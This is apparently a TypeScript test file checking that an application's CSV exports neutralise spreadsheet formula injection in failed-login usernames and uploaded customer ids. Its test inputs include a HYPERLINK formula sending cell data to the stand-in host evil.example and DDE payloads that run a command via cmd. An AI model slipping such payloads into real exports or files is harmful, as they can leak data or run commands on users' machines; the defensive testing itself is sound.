/**
 * Every file the product writes for Excel is formula-safe (issue 14 point 2): text a spreadsheet
 * would run (`=`, `+`, `-`, `@`, tab, CR first) gets a leading `'`, through the one writer in
 * common/export. Reached the way an attacker would: a failed login's username lands in the audit
 * export; a customer id in an uploaded dataset lands in the simulation results.
 */
import { parse } from 'csv-parse/sync';
import { cardDefinition, publishVersion, setupPolicy } from '../helpers/fixtures';
import { createTestApp, TestApp } from '../helpers/test-app';
import { waitForStatus } from './simulation-fixtures';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];

function csvRows(text: string): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  return parse(text.slice(1), { relax_column_count: false }) as string[][];
}

const text = (res: { body: unknown; text?: string }) => (typeof res.body === 'string' ? res.body : (res.text as string));
function asText(req: import('supertest').Test) {
  return req.buffer(true).parse((res, cb) => {
    let body = '';
    res.setEncoding('utf8');
    res.on('data', (d: string) => (body += d));
    res.on('end', () => cb(null, body));
  });
}

describe('exports: formula-safe CSV', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  it('the audit export neutralises a hostile username sent to the login form without any account', async () => {
    const compliance = await t.login(['compliance']);
    for (const username of HOSTILE) await t.http.post('/api/auth/login').send({ username, password: 'wrong password here' }).expect(401);
    const res = await asText(t.http.get('/api/audit-events/export.csv').query({ action: 'auth.login_failed' }).set(compliance.auth)).expect(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const rows = csvRows(text(res));
    const actor = rows[0].indexOf('actor');
    const actors = rows.slice(1).map((r) => r[actor]);
    for (const h of HOSTILE) expect(actors).toContain(`'${h}`);
    for (const a of actors) expect(a).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('the simulation results CSV neutralises hostile customer ids and keeps numbers as numbers', async () => {
    const author = await t.login(['author']);
    const approver = await t.login(['approver']);
    const { fact, policy } = await setupPolicy(t, author.auth);
    await publishVersion(t, author.auth, approver.auth, policy.id, cardDefinition(fact, 1_000_000));
    const draft = await t.http
      .post(`/api/policies/${policy.id}/versions`)
      .set(author.auth)
      .send({ definition: cardDefinition(fact, 999_999.99) })
      .expect(201);
    const customers = HOSTILE.map((customerId, i) => ({ customerId, [fact]: i % 2 ? 1_000_000 : 999_999.99 }));
    const dataset = await t.http
      .post('/api/datasets')
      .set(author.auth)
      .send({ name: 'hostile ids', rows: [...customers, { customerId: 'C-plain', [fact]: -5 }] })
      .expect(201);
    const sim = await t.http.post('/api/simulations').set(author.auth).send({ candidateVersionId: draft.body.id, datasetId: dataset.body.id }).expect(201);
    await waitForStatus(t, author.auth, sim.body.id, ['succeeded']);
    const res = await asText(t.http.get(`/api/simulations/${sim.body.id}/results.csv`).set(author.auth)).expect(200);
    const rows = csvRows(text(res));
    expect(rows[0].slice(0, 5)).toEqual(['row', 'customerId', 'baselineTier', 'candidateTier', 'movement']);
    expect(rows.slice(1).map((r) => r[1])).toEqual([...HOSTILE.map((h) => `'${h}`), 'C-plain']);
    expect(rows.slice(1).map((r) => [r[0], r[2], r[3], r[4]])).toEqual([
      ...HOSTILE.map((_h, i) => [String(i + 1), i % 2 ? 'BLACK' : 'GOLD', 'BLACK', i % 2 ? 'unchanged' : 'upgrade']),
      ['7', 'SILVER', 'SILVER', 'unchanged'],
    ]);
  });
});
